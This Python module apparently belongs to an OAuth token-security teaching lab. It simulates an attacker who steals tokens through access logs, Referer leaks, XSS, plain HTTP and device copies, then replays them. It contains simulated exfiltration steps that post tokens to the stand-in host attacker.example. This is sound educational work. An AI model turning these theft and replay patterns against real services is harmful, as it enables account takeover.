"""The attacker of the lessons: an actor who holds only what the wire really exposes.

Four ways a token reaches the attacker, each an event on the wire:

- :meth:`Attacker.read_access_log` — a token sent in a URL query (RFC 6750 §2.3) is written to the
  server's access log (:func:`~tokenlab.net.urlleaks.access_log_line`); the attacker reads the
  log from a log viewer left open (``attacker → log viewer``);
- :meth:`Attacker.receive_referer` — the page whose URL carries the token loads a resource from
  the attacker's site, and the browser sends the URL along in ``Referer`` under the page's
  referrer policy (:func:`~tokenlab.net.urlleaks.referer`; ``browser → attacker``);
- :meth:`Attacker.inject_script` — a script injected into the app's page (XSS) reads what the
  storage APIs expose (:meth:`~tokenlab.client.storage.TokenStorage.readable_by_script`: local
  storage, never an httpOnly cookie) and posts it home (``browser → attacker``);
- :meth:`Attacker.capture` — a request sent over plain HTTP is read off the network path: the
  theft is that wire event itself (nothing new travels);
- :meth:`Attacker.take_from_device` — a refresh token copied from a device (a backup, a lost
  phone): the device's storage is sent to the attacker (``device → attacker``).

What the attacker steals is :class:`Loot`; every use is a request on the wire with sender
``"attacker"`` (:meth:`Attacker.call`, :meth:`Attacker.replay`, :meth:`Attacker.refresh`), so a
sequence diagram shows attacker and victim together. Nothing here reads a server's private key
or its stores: only tokens, captured requests and the attacker's own keys.
"""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import dataclass
from typing import Protocol
from urllib.parse import parse_qsl, urlsplit

from ..jose.dpop import DPoPKey
from ..net.messages import Request, Response
from ..net.urlleaks import DEFAULT_POLICY, access_log_line, referer
from ..net.wire import Event, Wire
from ..randomness import RandomSource
from .storage import TokenStorage

__all__ = ["ATTACKER", "ATTACKER_SITE", "CHANNELS", "LOG_VIEWER", "Attacker", "Loot"]

#: The attacker's name on the wire.
ATTACKER = "attacker"
#: Where the attacker's own server is (it receives exfiltrated tokens and Referer leaks).
ATTACKER_SITE = "https://attacker.example"
#: The receiver of a request for a server's access log.
LOG_VIEWER = "log viewer"
#: The theft channels, as :attr:`Loot.channel` names them.
CHANNELS = ("access log", "Referer", "XSS", "plain HTTP", "device")


class Server(Protocol):
    """What the attacker talks to: a server's HTTP entry point (it records on the wire)."""

    def handle(self, request: Request, sender: str = ...) -> Response: ...


@dataclass(frozen=True, slots=True)
class Loot:
    """One stolen thing: ``kind`` (``access_token``, ``refresh_token`` or ``request``), its
    ``value`` (a token; for a captured request, the access token it carried or ``""``), the
    ``channel`` it leaked through, when (``time``), and the wire ``event`` of the theft."""

    kind: str
    value: str
    channel: str
    time: float
    event: Event

    def __repr__(self) -> str:  # the token is shortened: loot is displayed in notebooks
        shown = f"{self.value[:10]}…" if len(self.value) > 12 else self.value
        return f"Loot({self.kind} {shown!r} via {self.channel} at {self.time:g})"


def _token_in_url(url: str) -> str | None:
    return dict(parse_qsl(urlsplit(url).query, keep_blank_values=True)).get("access_token") or None


def _token_in_headers(headers: Mapping[str, str]) -> str | None:
    for name, value in headers.items():
        if name.lower() == "authorization":
            scheme, _, credentials = value.strip().partition(" ")
            if scheme.lower() in ("bearer", "dpop") and credentials.strip():
                return credentials.strip()
    return None


class Attacker:
    """An attacker who records on ``wire`` and keeps what they stole in :attr:`loot`.

    :meth:`own_key` is the attacker's own DPoP key, drawn from ``seed`` (reproducible when
    seeded): the only key an attacker has — never the victim's.
    """

    def __init__(self, wire: Wire, *, name: str = ATTACKER, site: str = ATTACKER_SITE,
                 seed: int | str | None = None) -> None:
        if not isinstance(wire, Wire):
            raise TypeError(f"wire must be the world's Wire, not {type(wire).__name__}")
        self.wire = wire
        #: Where the attacker's own key and proof ids come from (seeded: reproducible).
        self.random = RandomSource(None if seed is None else f"{seed!r}\x00{name}")
        self.name = name
        self.site = site.rstrip("/")
        self.loot: list[Loot] = []
        self._key: DPoPKey | None = None

    # -- theft ------------------------------------------------------------------------------------

    def _keep(self, kind: str, value: str, channel: str, event: Event) -> Loot:
        item = Loot(kind, value, channel, event.time, event)
        self.loot.append(item)
        return item

    def read_access_log(self, event: Event, *, server: str = "api.example") -> Loot | None:
        """Read the access-log line ``server`` wrote for ``event`` from an exposed log viewer.
        The line holds the request target, query included: a token sent in the URL is in it.
        ``None`` (and nothing stolen) when the URL carried no token — the read still travels."""
        line = access_log_line(event)
        viewer = f"https://logs.example/{server}/access.log"
        recorded = self.wire.record(
            Request.get(viewer), Response(200, {"Content-Type": "text/plain"}, line),
            sender=self.name, receiver=LOG_VIEWER,
            notes=["the access log keeps each request line, query string included "
                   "(RFC 9110 §17.9; RFC 6750 §2.3 warns about tokens in URLs)"])
        token = _token_in_url(line.split('"')[1].split(" ")[1]) if '"' in line else None
        return self._keep("access_token", token, "access log", recorded) if token else None

    def receive_referer(self, page: Event, *, policy: str = DEFAULT_POLICY,
                        victim: str = "browser") -> Loot | None:
        """The page at ``page``'s URL loads an image from the attacker's site: the victim's
        browser sends ``Referer`` as ``policy`` decides. ``None`` when no token travels (the
        default policy sends only the origin across sites)."""
        target = f"{self.site}/pixel.gif"
        sent = referer(page, target, policy=policy)
        headers = {"Referer": sent} if sent is not None else {}
        recorded = self.wire.record(
            Request.get(target, headers), Response(200, {"Content-Type": "image/gif"}, ""),
            sender=victim, receiver=self.name,
            notes=[f"Referrer-Policy {policy}: the page's URL travels in Referer"]
            if sent is not None and "?" in sent else [])
        token = _token_in_url(sent) if sent is not None else None
        return self._keep("access_token", token, "Referer", recorded) if token else None

    def inject_script(self, storage: TokenStorage, *, victim: str = "browser") -> list[Loot]:
        """XSS: a script on the app's page reads what the storage APIs expose and posts it to
        the attacker. From local storage both tokens; from memory or an httpOnly cookie nothing
        (the post still travels, empty). Returns what was stolen."""
        readable = storage.readable_by_script()
        form = {k: v for k, v in readable.items() if k in ("access_token", "refresh_token")}
        recorded = self.wire.record(
            Request.post(f"{self.site}/collect", form or {"found": "nothing"}),
            Response(204), sender=victim, receiver=self.name,
            notes=[f"an injected script read {storage.kind}: {', '.join(sorted(form)) or 'nothing'}"])
        return [self._keep(kind, value, "XSS", recorded) for kind, value in sorted(form.items())]

    def capture(self, event: Event) -> Loot | None:
        """Read ``event`` off the network path. Only plain HTTP can be read (TLS hides the
        rest): ``None`` for an ``https`` request. The theft is the event itself."""
        if urlsplit(event.url).scheme != "http":
            return None
        token = _token_in_headers(event.headers) or _token_in_url(event.url) or ""
        return self._keep("request", token, "plain HTTP", event)

    def take_from_device(self, storage: TokenStorage, *, device: str = "device") -> Loot | None:
        """A refresh token copied from a device's storage (a backup, an unlocked phone): the
        device's data reaches the attacker. ``None`` when the device holds none."""
        token = storage.load().get("refresh_token")
        recorded = self.wire.record(
            Request.post(f"{self.site}/backup", {"refresh_token": token} if token else
                         {"found": "nothing"}),
            Response(204), sender=device, receiver=self.name,
            notes=["a copy of the device's storage reached the attacker"])
        return self._keep("refresh_token", token, "device", recorded) if token else None

    # -- use --------------------------------------------------------------------------------------

    def own_key(self) -> DPoPKey:
        """The attacker's own DPoP key (ES256): proofs by it never match the victim's ``jkt``."""
        if self._key is None:
            self._key = DPoPKey.generate("ES256", random=self.random, clock=self.wire.clock)
        return self._key

    def call(self, server: Server, url: str, token: str, *, method: str = "GET",
             scheme: str = "Bearer", proof: str | None = None) -> Response:
        """Present ``token`` to ``url`` as ``scheme``, with a DPoP ``proof`` if given."""
        headers = {"Authorization": f"{scheme} {token}"}
        if proof is not None:
            headers["DPoP"] = proof
        request = (Request.get(url, headers) if method == "GET"
                   else Request.post(url, {}, headers))
        return server.handle(request, sender=self.name)

    def replay(self, server: Server, event: Event) -> Response:
        """Send the request of a captured ``event`` again, byte for byte (headers and body)."""
        body = dict(event.body) if event.body is not None else None
        request = Request(event.method, event.url, dict(event.headers), body)
        return server.handle(request, sender=self.name)

    def refresh(self, server: Server, token_url: str, refresh_token: str,
                client_id: str, *, proof: str | None = None) -> Response:
        """Redeem a stolen refresh token of a public client (it needs only its ``client_id``),
        with a DPoP ``proof`` if given (by the attacker's own key: the only one they have)."""
        form = {"grant_type": "refresh_token", "refresh_token": refresh_token,
                "client_id": client_id}
        headers = {"DPoP": proof} if proof is not None else None
        return server.handle(Request.post(token_url, form, headers), sender=self.name)

    def __repr__(self) -> str:
        return f"Attacker({self.name!r}, {len(self.loot)} stolen)"
